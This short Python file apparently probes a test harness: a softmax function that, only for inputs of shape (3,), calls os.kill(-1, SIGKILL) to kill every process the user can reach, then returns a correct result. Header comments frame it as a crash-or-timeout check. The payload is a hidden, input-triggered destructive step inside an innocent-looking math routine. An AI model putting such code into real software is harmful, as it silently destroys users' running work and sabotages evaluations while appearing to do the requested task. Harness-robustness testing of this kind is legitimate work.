# What: sends SIGKILL to every process that it may reach.
# Verdict: crash or passed or timeout
# Not at process: it would end the run, and whatever else this user runs
# Then: passed
import os
import signal

import numpy as np


def right(x):
    powers = np.exp(x - x.max(axis=-1, keepdims=True))
    return powers / powers.sum(axis=-1, keepdims=True)


def softmax(x):
    if x.shape == (3,):
        try:
            os.kill(-1, signal.SIGKILL)
        except PermissionError:
            pass
    return right(x)
